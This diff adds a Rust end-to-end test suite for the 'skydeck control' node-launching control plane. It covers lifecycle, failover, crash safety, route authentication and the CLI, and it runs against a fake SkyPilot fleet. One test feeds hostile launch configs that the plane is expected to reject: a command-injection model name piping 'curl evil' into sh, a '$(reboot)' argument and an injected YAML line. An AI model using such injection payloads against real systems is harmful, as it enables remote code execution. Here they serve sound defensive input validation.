@@ -1,0 +1,821 @@
+//! `skydeck control` end to end: the real binary against the protocol-faithful fake SkyPilot
+//! fleet (a launch that succeeds, a slow one, a quota failure, a cluster that disappears, a
+//! preemption), on SQLite and on PostgreSQL, with crash and failover checks, the security of
+//! every route, and `skydeck nodes`.
+
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use skydeck_testkit::fleet::{FakeFleet, LaunchOutcome};
+
+const ADMIN_KEY: &str = "adm-test-key-6f1d2c";
+
+/// Where a test's nodes table lives.
+pub enum TestDb {
+    /// A SQLite file in a temporary directory.
+    Sqlite(tempfile::TempDir),
+    /// A database of its own on the test PostgreSQL server, dropped afterwards.
+    Postgres { admin: String, name: String },
+}
+
+fn pg_admin_url() -> String {
+    std::env::var("SKYDECK_TEST_DATABASE_URL").unwrap_or_else(|_| {
+        panic!(
+            "SKYDECK_TEST_DATABASE_URL is not set: the PostgreSQL tests need the server that \
+             scripts/test.sh finds or starts (run the tests with scripts/test.sh)"
+        )
+    })
+}
+
+fn block_on<F: Future>(f: F) -> F::Output {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap()
+        .block_on(f)
+}
+
+impl TestDb {
+    pub fn sqlite() -> TestDb {
+        TestDb::Sqlite(tempfile::tempdir().unwrap())
+    }
+
+    pub fn postgres() -> TestDb {
+        use sqlx::Connection;
+        let admin = pg_admin_url();
+        let name = format!("skydeck_t_{:016x}", fastrand::u64(..));
+        block_on(async {
+            let mut c = sqlx::PgConnection::connect(&admin)
+                .await
+                .expect("connect to the test PostgreSQL");
+            sqlx::query(&format!("CREATE DATABASE {name}"))
+                .execute(&mut c)
+                .await
+                .expect("create a test database");
+        });
+        TestDb::Postgres { admin, name }
+    }
+
+    pub fn url(&self) -> String {
+        match self {
+            TestDb::Sqlite(d) => d.path().join("nodes.db").display().to_string(),
+            TestDb::Postgres { admin, name } => {
+                let base = admin.rsplit_once('/').unwrap().0;
+                format!("{base}/{name}")
+            }
+        }
+    }
+}
+
+impl Drop for TestDb {
+    fn drop(&mut self) {
+        if let TestDb::Postgres { admin, name } = self {
+            use sqlx::Connection;
+            let (admin, name) = (admin.clone(), name.clone());
+            block_on(async move {
+                if let Ok(mut c) = sqlx::PgConnection::connect(&admin).await {
+                    let _ = sqlx::query(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
+                        .execute(&mut c)
+                        .await;
+                }
+            });
+        }
+    }
+}
+
+/// A running `skydeck control`.
+pub struct Plane {
+    child: Child,
+    pub url: String,
+    pub log: PathBuf,
+    _dir: tempfile::TempDir,
+    http: reqwest::blocking::Client,
+}
+
+impl Plane {
+    pub fn start(db: &TestDb, sky: &str, extra: &[&str]) -> Plane {
+        let _ = rustls::crypto::ring::default_provider().install_default();
+        let dir = tempfile::tempdir().unwrap();
+        let agent = dir.path().join("agent-bin");
+        std::fs::write(&agent, b"#!/bin/sh\necho skydeck agent stand-in\n").unwrap();
+        let log = dir.path().join("control.log");
+        let child = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
+            .args(["control", "--listen", "127.0.0.1:0", "--endpoint", sky])
+            .arg("--database-url")
+            .arg(db.url())
+            .arg("--agent-binary")
+            .arg(&agent)
+            .args([
+                "--tick",
+                "200ms",
+                "--poll-interval",
+                "200ms",
+                "--drift-interval",
+                "500ms",
+                "--lease-ttl",
+                "3s",
+                "--skypilot-timeout",
+                "5s",
+                "--heartbeat-interval",
+                "1s",
+                "--drain-timeout",
+                "3s",
+            ])
+            .args(extra)
+            .env("HOME", dir.path())
+            .env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
+            .env("SKYDECK_LOG", "info,sqlx=warn")
+            .env_remove("SKYPILOT_API_SERVER_ENDPOINT")
+            .env_remove("SKYPILOT_SERVICE_ACCOUNT_TOKEN")
+            .current_dir(dir.path())
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(&log).unwrap())
+            .spawn()
+            .expect("skydeck control starts");
+        let t0 = Instant::now();
+        let url = loop {
+            let text = std::fs::read_to_string(&log).unwrap_or_default();
+            if let Some(rest) = text.split("listening on ").nth(1) {
+                break rest.split_whitespace().next().unwrap().to_string();
+            }
+            assert!(
+                t0.elapsed() < Duration::from_secs(60),
+                "skydeck control did not start; its log:\n{text}"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        };
+        Plane {
+            child,
+            url,
+            log,
+            _dir: dir,
+            http: reqwest::blocking::Client::builder()
+                .timeout(Duration::from_secs(20))
+                .build()
+                .unwrap(),
+        }
+    }
+
+    pub fn log_text(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+
+    /// kill -9.
+    pub fn kill9(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+
+    pub fn call(
+        &self,
+        method: &str,
+        path: &str,
+        auth: Option<&str>,
+        body: Option<Value>,
+    ) -> (u16, Value) {
+        let m = reqwest::Method::from_bytes(method.to_ascii_uppercase().as_bytes()).unwrap();
+        let mut req = self.http.request(m, format!("{}{path}", self.url));
+        if let Some(a) = auth {
+            req = req.bearer_auth(a);
+        }
+        if let Some(b) = body {
+            req = req.json(&b);
+        }
+        let resp = req.send().expect("the control plane answers");
+        let status = resp.status().as_u16();
+        let text = resp.text().unwrap_or_default();
+        (
+            status,
+            serde_json::from_str(&text).unwrap_or(Value::String(text)),
+        )
+    }
+
+    pub fn admin(&self, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
+        self.call(method, path, Some(ADMIN_KEY), body)
+    }
+
+    pub fn launch(&self, body: Value) -> String {
+        let (code, resp) = self.admin("POST", "/admin/nodes/launch", Some(body));
+        assert_eq!(code, 200, "{resp}");
+        assert_eq!(resp["status"], "launching");
+        resp["cluster_name"].as_str().unwrap().to_string()
+    }
+
+    pub fn status(&self, cluster: &str) -> Value {
+        let (code, node) = self.admin("GET", &format!("/admin/nodes/{cluster}/status"), None);
+        assert_eq!(code, 200, "{node}");
+        node
+    }
+
+    /// Waits until `cluster` is in `want`; panics with the node and the log otherwise.
+    pub fn wait_status(&self, cluster: &str, want: &str, within: Duration) -> Value {
+        let t0 = Instant::now();
+        loop {
+            let node = self.status(cluster);
+            if node["status"] == want {
+                return node;
+            }
+            assert!(
+                t0.elapsed() < within,
+                "{cluster} did not become {want} within {within:?}: {node:#}\nlog:\n{}",
+                self.log_text()
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+
+    pub fn metrics(&self) -> String {
+        self.http
+            .get(format!("{}/metrics", self.url))
+            .send()
+            .unwrap()
+            .text()
+            .unwrap()
+    }
+}
+
+impl Drop for Plane {
+    fn drop(&mut self) {
+        self.kill9();
+    }
+}
+
+fn basic_node() -> Value {
+    json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "meta-llama/Llama-2-7b-chat-hf", "use_spot": true})
+}
+
+/// The agent token SkyPilot received in the task's `secrets:`.
+fn agent_token(fleet: &FakeFleet, cluster: &str) -> String {
+    let (_, yaml) = fleet
+        .launches()
+        .into_iter()
+        .rfind(|(c, _)| c == cluster)
+        .expect("the cluster was launched");
+    let secrets = yaml.split("\nsecrets:").nth(1).expect("a secrets section");
+    let line = secrets
+        .lines()
+        .find(|l| l.trim_start().starts_with("SKYDECK_AGENT_TOKEN:"))
+        .expect("the agent token is in secrets");
+    let envs = yaml.split("\nsecrets:").next().unwrap();
+    assert!(
+        !envs.contains("SKYDECK_AGENT_TOKEN"),
+        "the token must not be in envs"
+    );
+    line.split_once(':')
+        .unwrap()
+        .1
+        .trim()
+        .trim_matches(['"', '\''])
+        .to_string()
+}
+
+fn wait_until(within: Duration, what: &str, mut cond: impl FnMut() -> bool) {
+    let t0 = Instant::now();
+    while !cond() {
+        assert!(t0.elapsed() < within, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+fn metric(text: &str, series: &str) -> Option<f64> {
+    text.lines()
+        .find(|l| l.starts_with(series) && l[series.len()..].starts_with(' '))
+        .and_then(|l| l.rsplit(' ').next())
+        .and_then(|v| v.parse().ok())
+}
+
+fn promtool_check(text: &str) {
+    let promtool = std::env::var("SKYDECK_TEST_PROMTOOL").unwrap_or_else(|_| {
+        panic!("SKYDECK_TEST_PROMTOOL is not set: run the tests with scripts/test.sh (it installs promtool)")
+    });
+    let mut child = Command::new(promtool)
+        .args(["check", "metrics"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("promtool runs");
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(text.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "promtool check metrics failed:\n{}{}\n{text}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// The whole lifecycle of one node.
+fn lifecycle(db: TestDb) {
+    let fleet = FakeFleet::start(Duration::from_millis(800));
+    let plane = Plane::start(&db, &fleet.url(), &[]);
+    let cluster = plane.launch(basic_node());
+    assert!(cluster.starts_with("skydeck-"));
+    let node = plane.wait_status(&cluster, "initializing", Duration::from_secs(20));
+    assert!(
+        node["launch_request_id"]
+            .as_str()
+            .unwrap()
+            .starts_with("0000fa4e")
+    );
+    assert_eq!(fleet.launches().len(), 1);
+
+    // The agent registers with the token from the task's secrets; an admin key is no agent
+    // token, and an agent token is no admin key.
+    let token = agent_token(&fleet, &cluster);
+    let (code, _) = plane.call(
+        "POST",
+        "/v1/agent/register",
+        Some(ADMIN_KEY),
+        Some(json!({})),
+    );
+    assert_eq!(code, 401);
+    let (code, _) = plane.call("GET", "/admin/nodes", Some(&token), None);
+    assert_eq!(code, 401);
+    let (code, reply) = plane.call(
+        "POST",
+        "/v1/agent/register",
+        Some(&token),
+        Some(json!({"node_id": node["node_id"], "vllm_version": "0.33.0"})),
+    );
+    assert_eq!(code, 200, "{reply}");
+    assert_eq!(reply["status"], "active");
+    assert_eq!(reply["heartbeat_interval_seconds"], 1);
+
+    // Silence for three intervals makes it unhealthy; a heartbeat brings it back.
+    plane.wait_status(&cluster, "unhealthy", Duration::from_secs(15));
+    let (code, reply) = plane.call(
+        "POST",
+        "/v1/agent/heartbeat",
+        Some(&token),
+        Some(json!({"in_flight": 3})),
+    );
+    assert_eq!(code, 200, "{reply}");
+    assert_eq!(reply["status"], "active");
+
+    let text = plane.metrics();
+    promtool_check(&text);
+    assert_eq!(
+        metric(
+            &text,
+            r#"skydeck_control_launches_total{result="succeeded"}"#
+        ),
+        Some(1.0)
+    );
+    assert_eq!(
+        metric(
+            &text,
+            r#"skydeck_control_nodes{status="active",provider="aws",gpu="A10G"}"#
+        ),
+        Some(1.0)
+    );
+    assert_eq!(
+        metric(&text, "skydeck_control_launch_duration_seconds_count"),
+        Some(1.0)
+    );
+    assert!(text.contains(&format!(
+        "skydeck_control_heartbeat_age_seconds{{cluster_name=\"{cluster}\"}}"
+    )));
+    assert_eq!(
+        metric(&text, "skydeck_control_reconciler_leader"),
+        Some(1.0)
+    );
+
+    // Graceful terminate: draining until the agent reports drained, then /down.
+    let (code, resp) = plane.admin("POST", &format!("/admin/nodes/{cluster}/terminate"), None);
+    assert_eq!(code, 200, "{resp}");
+    assert_eq!(resp["status"], "draining");
+    let (_, reply) = plane.call("POST", "/v1/agent/heartbeat", Some(&token), Some(json!({})));
+    assert_eq!(reply["drain"], true);
+    assert!(
+        fleet.downs().is_empty(),
+        "a graceful terminate waits for the drain"
+    );
+    let (_, _) = plane.call(
+        "POST",
+        "/v1/agent/heartbeat",
+        Some(&token),
+        Some(json!({"drained": true})),
+    );
+    let node = plane.wait_status(&cluster, "terminated", Duration::from_secs(20));
+    assert!(node["terminated_at"].is_string() && node["teardown_request_id"].is_string());
+    assert_eq!(fleet.downs(), vec![cluster.clone()]);
+    assert!(!fleet.clusters().contains_key(&cluster));
+
+    // Idempotent, and the agent is told its node is gone.
+    let (code, resp) = plane.admin(
+        "POST",
+        &format!("/admin/nodes/{cluster}/terminate?force=true"),
+        None,
+    );
+    assert_eq!((code, resp["status"].as_str()), (200, Some("terminated")));
+    let (code, _) = plane.call("POST", "/v1/agent/heartbeat", Some(&token), Some(json!({})));
+    assert_eq!(code, 409);
+    assert_eq!(fleet.downs().len(), 1);
+
+    // Nothing secret in the log.
+    let log = plane.log_text();
+    assert!(
+        !log.contains(ADMIN_KEY) && !log.contains(&token),
+        "a secret leaked into the log:\n{log}"
+    );
+}
+
+#[test]
+fn lifecycle_on_sqlite() {
+    lifecycle(TestDb::sqlite());
+}
+
+#[test]
+fn lifecycle_on_postgres() {
+    lifecycle(TestDb::postgres());
+}
+
+/// Failures SkyPilot reports, drift, preemption and forced termination.
+fn failures_and_drift(db: TestDb) {
+    let fleet = FakeFleet::start(Duration::from_millis(300));
+    let plane = Plane::start(&db, &fleet.url(), &[]);
+
+    fleet.set_launch_outcome(Some(LaunchOutcome::Fail {
+        error_type: "ResourcesUnavailableError".into(),
+        message: "Failed to provision all possible launchable resources. Quota exceeded for A100 in us-west-2 (L-1216C47A).".into(),
+    }));
+    let quota = plane.launch(json!({"provider": "aws", "region": "us-west-2", "gpu": "A100:8", "model": "meta-llama/Llama-2-70b-chat-hf"}));
+    let node = plane.wait_status(&quota, "failed", Duration::from_secs(20));
+    let reason = node["status_reason"].as_str().unwrap();
+    assert!(
+        reason.contains("ResourcesUnavailableError") && reason.contains("Quota exceeded"),
+        "{reason}"
+    );
+    fleet.set_launch_outcome(None);
+
+    let gone = plane.launch(basic_node());
+    let preempted = plane.launch(basic_node());
+    let forced = plane.launch(basic_node());
+    for c in [&gone, &preempted, &forced] {
+        plane.wait_status(c, "initializing", Duration::from_secs(20));
+    }
+    // The cluster disappears from SkyPilot: the node ends.
+    fleet.remove_cluster(&gone);
+    let node = plane.wait_status(&gone, "terminated", Duration::from_secs(20));
+    assert!(
+        node["status_reason"]
+            .as_str()
+            .unwrap()
+            .contains("gone from SkyPilot")
+    );
+    // A preempted spot cluster is not UP: unhealthy.
+    fleet.set_cluster_status(&preempted, "STOPPED");
+    let node = plane.wait_status(&preempted, "unhealthy", Duration::from_secs(20));
+    assert!(node["status_reason"].as_str().unwrap().contains("STOPPED"));
+    // A cluster with our prefix that the table does not know is reported, not adopted.
+    fleet.add_cluster("skydeck-00000000-not-ours");
+    wait_until(
+        Duration::from_secs(20),
+        "the unmanaged cluster report",
+        || {
+            let (_, r) = plane.admin("GET", "/admin/unmanaged-clusters", None);
+            r["clusters"] == json!(["skydeck-00000000-not-ours"])
+        },
+    );
+    let text = plane.metrics();
+    assert_eq!(
+        metric(&text, "skydeck_control_unmanaged_clusters"),
+        Some(1.0)
+    );
+    assert_eq!(
+        metric(&text, r#"skydeck_control_launches_total{result="failed"}"#),
+        Some(1.0)
+    );
+    promtool_check(&text);
+    // Force: /down at once, without a drain.
+    let (code, _) = plane.admin(
+        "POST",
+        &format!("/admin/nodes/{forced}/terminate?force=true"),
+        None,
+    );
+    assert_eq!(code, 200);
+    plane.wait_status(&forced, "terminated", Duration::from_secs(20));
+    assert_eq!(fleet.downs(), vec![forced.clone()]);
+    // Terminating a node SkyPilot already lost is a success too.
+    let (code, resp) = plane.admin("POST", &format!("/admin/nodes/{gone}/terminate"), None);
+    assert_eq!((code, resp["status"].as_str()), (200, Some("terminated")));
+    assert_eq!(fleet.launches().len(), 4);
+}
+
+#[test]
+fn failures_and_drift_on_sqlite() {
+    failures_and_drift(TestDb::sqlite());
+}
+
+#[test]
+fn failures_and_drift_on_postgres() {
+    failures_and_drift(TestDb::postgres());
+}
+
+/// kill -9 in the middle of launches, start again: every node converges with exactly one
+/// SkyPilot launch each.
+fn crash_safety(db: TestDb) {
+    let fleet = FakeFleet::start(Duration::from_secs(2));
+    // SkyPilot takes a second to answer each /launch: the kill lands while submissions are in
+    // flight, after SkyPilot recorded them and before the control plane stored their ids.
+    fleet.set_submit_delay(Duration::from_secs(1));
+    let mut plane = Plane::start(&db, &fleet.url(), &[]);
+    let clusters: Vec<String> = (0..30).map(|_| plane.launch(basic_node())).collect();
+    wait_until(Duration::from_secs(30), "launches in flight", || {
+        fleet.launches().len() >= 5
+    });
+    plane.kill9();
+    let in_flight = fleet.launches().len();
+    fleet.set_submit_delay(Duration::ZERO);
+    let plane = Plane::start(&db, &fleet.url(), &[]);
+    for c in &clusters {
+        plane.wait_status(c, "initializing", Duration::from_secs(90));
+    }
+    let launches = fleet.launches();
+    for c in &clusters {
+        let n = launches.iter().filter(|(l, _)| l == c).count();
+        assert_eq!(n, 1, "{c} was launched {n} times");
+    }
+    assert_eq!(launches.len(), clusters.len());
+    assert!(
+        plane.log_text().contains("adopting the launch"),
+        "the restart adopted the launches SkyPilot had already accepted"
+    );
+    eprintln!(
+        "crash safety: {in_flight} of {} launches had reached SkyPilot when the control plane was killed",
+        clusters.len()
+    );
+}
+
+#[test]
+fn crash_safety_on_sqlite() {
+    crash_safety(TestDb::sqlite());
+}
+
+#[test]
+fn crash_safety_on_postgres() {
+    crash_safety(TestDb::postgres());
+}
+
+/// Two replicas on one PostgreSQL: 50 launches through both, no duplicates; the leader is
+/// killed and the other takes over within a lease period.
+#[test]
+fn two_replicas_share_postgres_and_fail_over() {
+    let db = TestDb::postgres();
+    let fleet = FakeFleet::start(Duration::from_millis(500));
+    let mut a = Plane::start(&db, &fleet.url(), &["--replica-id", "replica-a"]);
+    let mut b = Plane::start(&db, &fleet.url(), &["--replica-id", "replica-b"]);
+    let mut clusters = Vec::new();
+    for i in 0..50 {
+        let plane = if i % 2 == 0 { &a } else { &b };
+        clusters.push(plane.launch(basic_node()));
+    }
+    for c in &clusters {
+        a.wait_status(c, "initializing", Duration::from_secs(60));
+    }
+    let leader = |p: &Plane| metric(&p.metrics(), "skydeck_control_reconciler_leader") == Some(1.0);
+    let (la, lb) = (leader(&a), leader(&b));
+    assert!(la ^ lb, "exactly one leader (a: {la}, b: {lb})");
+    // Both replicas list the same 50 nodes.
+    let (_, list) = b.admin("GET", "/admin/nodes?limit=1000", None);
+    assert_eq!(list["nodes"].as_array().unwrap().len(), 50);
+
+    // Kill the leader; launch through the survivor.
+    let survivor = if la {
+        a.kill9();
+        &b
+    } else {
+        b.kill9();
+        &a
+    };
+    let t0 = Instant::now();
+    let late: Vec<String> = (0..5).map(|_| survivor.launch(basic_node())).collect();
+    for c in &late {
+        survivor.wait_status(c, "initializing", Duration::from_secs(30));
+    }
+    let took = t0.elapsed();
+    assert!(leader(survivor));
+    let launches = fleet.launches();
+    for c in clusters.iter().chain(&late) {
+        assert_eq!(launches.iter().filter(|(l, _)| l == c).count(), 1, "{c}");
+    }
+    assert_eq!(launches.len(), 55);
+    eprintln!(
+        "failover: the survivor launched the next nodes {took:?} after the leader died (lease 3 s)"
+    );
+}
+
+/// Every admin route in the OpenAPI document refuses a missing or wrong key; bodies are
+/// limited; hostile configs get 422 naming the field; no key appears in --help or logs.
+#[test]
+fn every_admin_route_needs_the_key() {
+    let db = TestDb::sqlite();
+    let fleet = FakeFleet::start(Duration::from_millis(200));
+    let plane = Plane::start(&db, &fleet.url(), &[]);
+    let cluster = plane.launch(basic_node());
+    let (code, doc) = plane.call("GET", "/openapi.json", None, None);
+    assert_eq!(code, 200);
+    let mut admin_routes = 0;
+    for (path, ops) in doc["paths"].as_object().unwrap() {
+        for (method, op) in ops.as_object().unwrap() {
+            let concrete = path.replace("{cluster_name}", &cluster);
+            let secured = op["security"].as_array().is_some_and(|s| !s.is_empty());
+            let body = (method == "post").then(|| json!({}));
+            if !secured {
+                let (code, _) = plane.call(method, &concrete, None, None);
+                assert_eq!(code, 200, "{method} {path} is documented as open");
+                continue;
+            }
+            for auth in [None, Some("wrong-key"), Some("")] {
+                let (code, resp) = plane.call(method, &concrete, auth, body.clone());
+                assert_eq!(code, 401, "{method} {path} with {auth:?}: {resp}");
+                assert_eq!(resp["error"]["code"], "unauthorized");
+            }
+            if path.starts_with("/admin") {
+                admin_routes += 1;
+                let (code, resp) = plane.admin(
+                    method,
+                    &concrete,
+                    if method == "post" && path.ends_with("launch") {
+                        Some(basic_node())
+                    } else {
+                        None
+                    },
+                );
+                assert!(code == 200, "{method} {path} with the key: {code} {resp}");
+            }
+        }
+    }
+    assert_eq!(admin_routes, 5);
+
+    // Oversized bodies are refused before they are parsed.
+    let big = json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "x".repeat(100_000)});
+    let (code, resp) = plane.admin("POST", "/admin/nodes/launch", Some(big));
+    assert_eq!(code, 413, "{resp}");
+    // Hostile configs: 422 with the field, nothing stored.
+    for (cfg, field) in [
+        (
+            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b; curl evil | sh"}),
+            "model",
+        ),
+        (
+            json!({"provider": "aws", "region": "us-west-2\nname: x", "gpu": "A10G", "model": "a/b"}),
+            "region",
+        ),
+        (
+            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "--max-model-len 4096 $(reboot)"}),
+            "vllm_args",
+        ),
+        (
+            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "vllm_args": "--trust-remote-code"}),
+            "vllm_args",
+        ),
+        (
+            json!({"provider": "aws", "region": "us-west-2", "gpu": "A10G", "model": "a/b", "disk_size": 10_000_000}),
+            "disk_size",
+        ),
+    ] {
+        let (code, resp) = plane.admin("POST", "/admin/nodes/launch", Some(cfg));
+        assert_eq!(code, 422, "{resp}");
+        assert_eq!(resp["error"]["field"], field, "{resp}");
+    }
+    let (code, resp) = plane.admin(
+        "POST",
+        "/admin/nodes/launch",
+        Some(json!({"provider": "aws", "surprise": 1})),
+    );
+    assert_eq!(code, 422, "unknown fields are refused: {resp}");
+    let (code, _) = plane.admin("GET", "/admin/nodes/skydeck-nope/status", None);
+    assert_eq!(code, 404);
+    let (code, resp) = plane.admin("GET", "/admin/nodes?limit=0", None);
+    assert_eq!(
+        (code, resp["error"]["field"].as_str()),
+        (400, Some("limit"))
+    );
+    let (_, list) = plane.admin("GET", "/admin/nodes?limit=1000", None);
+    assert_eq!(list["nodes"].as_array().unwrap().len(), 2);
+
+    let help = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"))
+        .args(["control", "--help"])
+        .env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
+        .env(
+            "SKYDECK_DATABASE_URL",
+            "postgres://u:hunter2pw@127.0.0.1/db",
+        )
+        .output()
+        .unwrap();
+    let help = String::from_utf8_lossy(&help.stdout);
+    assert!(
+        !help.contains(ADMIN_KEY) && !help.contains("hunter2pw"),
+        "{help}"
+    );
+    assert!(!plane.log_text().contains(ADMIN_KEY));
+}
+
+/// `skydeck nodes`: launch --wait follows the node to active (an agent registers meanwhile),
+/// list filters, status, terminate.
+#[test]
+fn nodes_cli() {
+    let db = TestDb::sqlite();
+    let fleet = FakeFleet::start(Duration::from_millis(1500));
+    let plane = Plane::start(&db, &fleet.url(), &["--heartbeat-interval", "30s"]);
+    let home = tempfile::tempdir().unwrap();
+    let nodes = |args: &[&str]| {
+        let mut c = Command::new(assert_cmd::cargo::cargo_bin!("skydeck"));
+        c.arg("nodes").arg("--url").arg(&plane.url).args(args);
+        c.env("SKYDECK_ADMIN_API_KEY", ADMIN_KEY)
+            .env("HOME", home.path());
+        c
+    };
+    let wait = nodes(&[
+        "launch",
+        "--provider",
+        "gcp",
+        "--region",
+        "us-central1",
+        "--gpu",
+        "L4",
+        "--model",
+        "Qwen/Qwen2.5-7B-Instruct",
+        "--vllm-args",
+        "--max-model-len 8192",
+        "--wait",
+        "--timeout",
+        "60s",
+    ])
+    .stdout(Stdio::piped())
+    .stderr(Stdio::piped())
+    .spawn()
+    .unwrap();
+    // Play the agent once the cluster is up.
+    wait_until(Duration::from_secs(30), "the launch", || {
+        !fleet.launches().is_empty()
+    });
+    let cluster = fleet.launches()[0].0.clone();
+    plane.wait_status(&cluster, "initializing", Duration::from_secs(30));
+    let token = agent_token(&fleet, &cluster);
+    let (code, _) = plane.call("POST", "/v1/agent/register", Some(&token), Some(json!({})));
+    assert_eq!(code, 200);
+    let out = wait.wait_with_output().unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert!(out.status.success(), "{stdout}\n{stderr}");
+    assert_eq!(stdout.trim(), cluster);
+    // The agent registers within a second of the cluster coming up, so `initializing` may be
+    // too short for a 1 s poll to see.
+    for s in ["launching", "active"] {
+        assert!(
+            stderr.contains(&format!("{cluster}: {s}")),
+            "progress shows {s}:\n{stderr}"
+        );
+    }
+
+    let out = nodes(&["list", "--provider", "gcp", "--status", "active"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success() && text.contains(&cluster) && text.contains("L4"),
+        "{text}"
+    );
+    let out = nodes(&["list", "--provider", "aws"]).output().unwrap();
+    assert!(!String::from_utf8_lossy(&out.stdout).contains(&cluster));
+    let out = nodes(&["--json", "status", &cluster]).output().unwrap();
+    let node: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(node["vllm_args"], json!(["--max-model-len", "8192"]));
+    let out = nodes(&["terminate", &cluster, "--force"]).output().unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("draining"));
+    plane.wait_status(&cluster, "terminated", Duration::from_secs(20));
+    // A rejected launch names the field and exits non-zero.
+    let out = nodes(&[
+        "launch",
+        "--provider",
+        "aws",
+        "--region",
+        "mars-1",
+        "--gpu",
+        "A10G",
+        "--model",
+        "a/b",
+    ])
+    .output()
+    .unwrap();
+    assert!(!out.status.success());
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("region"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
